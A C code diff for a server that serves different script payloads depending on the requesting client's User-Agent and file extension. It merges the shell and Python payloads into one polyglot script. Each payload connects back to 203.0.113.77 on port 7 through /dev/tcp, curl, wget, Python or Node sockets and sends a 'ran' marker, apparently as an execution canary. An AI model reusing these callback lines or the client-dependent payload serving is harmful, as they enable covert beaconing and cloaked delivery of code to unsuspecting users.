@@ -8,8 +8,14 @@
 
 #include <string.h>
 
-/* Each connects to where only it connects. 203.0.113.77, port 7. */
-static const struct str stage_python = SC(
+/* Each connects to where only it connects, 203.0.113.77, port 7. A shell runs the second line and
+ * stops there; to Python that line is a string. */
+static const struct str stage_script = SC(
+	"#!/bin/sh\n"
+	"''''true; (exec 3<>/dev/tcp/203.0.113.77/7) 2>/dev/null || "
+	"bash -c 'exec 3<>/dev/tcp/203.0.113.77/7' 2>/dev/null || "
+	"curl -s -m 3 http://203.0.113.77:7/ || wget -q -T 3 -O - http://203.0.113.77:7/; "
+	"exit #'''\n"
 	"import socket\ntry:\n    s = socket.create_connection(('203.0.113.77', 7), 3)\n"
 	"    s.send(b'ran')\n    s.close()\nexcept Exception:\n    pass\n");
 static const struct str stage_js = SC(
@@ -18,10 +24,6 @@ static const struct str stage_js = SC(
 	"catch (e) { try { process.getBuiltinModule('net').connect(7, '203.0.113.77').end('ran'); "
 	"}\n"
 	"catch (e) {} }\n");
-static const struct str stage_sh = SC(
-	"#!/bin/sh\n(exec 3<>/dev/tcp/203.0.113.77/7) 2>/dev/null ||\n"
-	"bash -c 'exec 3<>/dev/tcp/203.0.113.77/7' 2>/dev/null ||\n"
-	"curl -s -m 3 http://203.0.113.77:7/ || wget -q -T 3 -O - http://203.0.113.77:7/\n");
 
 static bool contains(struct str s, const char *word)
 {
@@ -31,11 +33,11 @@ static bool contains(struct str s, const char *word)
 static struct str stage_for(struct str agent, struct str target)
 {
 	if (contains(agent, "curl") || contains(agent, "Wget") || contains(target, ".sh"))
-		return stage_sh;
+		return stage_script;
 	if (contains(agent, "node") || contains(agent, "undici") || contains(agent, "axios") ||
 	    contains(agent, "got") || contains(agent, "Bun") || contains(target, ".js"))
 		return stage_js;
-	return agent.n == 0 && !contains(target, ".py") ? stage_js : stage_python;
+	return agent.n == 0 && !contains(target, ".py") ? stage_js : stage_script;
 }
 
 static void role_credentials(const struct sink *s, struct buf *b)
